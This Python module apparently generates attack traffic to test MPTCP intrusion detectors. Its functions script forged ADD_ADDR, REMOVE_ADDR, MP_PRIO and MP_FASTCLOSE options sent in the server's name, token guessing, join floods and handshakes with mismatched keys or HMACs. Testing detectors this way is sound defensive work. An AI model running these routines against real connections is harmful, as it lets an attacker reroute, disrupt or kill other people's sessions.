"""What a rogue does: each takes a Rogue and returns when the packet left that gives him away, in seconds since the epoch."""

import os

import mptcp_options as mptcp
from rogue import ADDRESS, ADDRESSES, join_of, mirrored, random_key
from segments import ACK, RST, SYN

FLOOD_THRESHOLD = 20  # of the scenarios' settings
FLOOD_JOINS = 40
GUESSES_THRESHOLD = 10  # the default
GUESSES = 12
PATHS_TAKEN = 4  # detectors.remove_addr_abuse.mass, the default
SERVER_ID = 7  # of the address that the server advertises
FORGED_ID = 77


def join_with_wrong_hmac(rogue):
    """Joins with the right token, and cannot know the keys."""
    _, syn = rogue.open(join_of(rogue.token()))
    syn_ack = rogue.await_answer(syn)
    return rogue.answer(syn_ack, ACK, mptcp.mp_join_ack(os.urandom(20)))


def answer_with_wrong_hmac(rogue):
    """Knows the keys, draws the client to an address of his own, and answers its join as if he did not know them."""
    client_key, server_key = rogue.keys()
    proof = mptcp.derive_add_addr_hmac(server_key, client_key, FORGED_ID, ADDRESS)
    rogue.forge(mirrored(rogue.victim), mptcp.add_addr(FORGED_ID, ADDRESS, proof))
    syn = rogue.await_join()
    return rogue.answer(syn, SYN | ACK, mptcp.mp_join_syn_ack(os.urandom(8), os.urandom(4), FORGED_ID))


def flood_with_joins(rogue):
    """Opens joins with a right token from many addresses, and leaves them when they are answered."""
    token, left = rogue.token(), []
    for number in range(FLOOD_JOINS):
        when, syn = rogue.open(join_of(token), ADDRESSES[number % len(ADDRESSES)])
        left.append(when)
        rogue.await_answer(syn)
    return left[FLOOD_THRESHOLD]


def guess_tokens(rogue):
    """Tries tokens until one is let in."""
    left = []
    for _ in range(GUESSES):
        when, syn = rogue.open(join_of(os.urandom(4)))
        left.append(when)
        if not rogue.await_answer(syn).flags & RST:
            raise RuntimeError("a random token was let in")
    return left[GUESSES_THRESHOLD - 1]


def echo_another_key(rogue):
    """Opens a connection; the server's key that his third ACK repeats is not the one that the server sent."""
    _, syn = rogue.open(mptcp.mp_capable())
    syn_ack = rogue.await_answer(syn)
    when = rogue.answer(syn_ack, ACK, mptcp.mp_capable(random_key() + random_key()))
    rogue.reset(syn_ack)
    return when


def change_own_key(rogue):
    """Opens a connection; his first data has another key of his than the third ACK."""
    _, syn = rogue.open(mptcp.mp_capable())
    syn_ack = rogue.await_answer(syn)
    server_key = syn_ack.mptcp(mptcp.MP_CAPABLE)[4:12]
    rogue.answer(syn_ack, ACK, mptcp.mp_capable(random_key() + server_key))
    data = b"GET / HTTP/1.0\r\n\r\n"
    when = rogue.answer(syn_ack, ACK, mptcp.mp_capable(random_key() + server_key, len(data)), data)
    rogue.reset(syn_ack, len(data))
    return when


def forge_add_addr(rogue):
    """Advertises his address in the server's name, without the keys for its HMAC."""
    return rogue.forge(mirrored(rogue.victim), mptcp.add_addr(FORGED_ID, ADDRESS, os.urandom(8)))


def forge_remove_addr(rogue):
    """Removes the server's addresses, in its name: the one that is in use, and some more."""
    address_ids = (SERVER_ID, *range(FORGED_ID, FORGED_ID + PATHS_TAKEN - 1))
    return rogue.forge(mirrored(rogue.victim), mptcp.remove_addr(address_ids))


def forge_priority(rogue):
    """Makes backups, in the server's name, of the paths that he sees, to have all data on the one that is left."""
    rogue.hear()
    when = None
    for flow in rogue.subflows():
        when = rogue.forge(mirrored(flow), mptcp.mp_prio_backup())
    return when


def forge_fastclose(rogue):
    """Ends the connection in the server's name, without the key for it."""
    return rogue.forge(mirrored(rogue.victim), mptcp.mp_fastclose(random_key()))
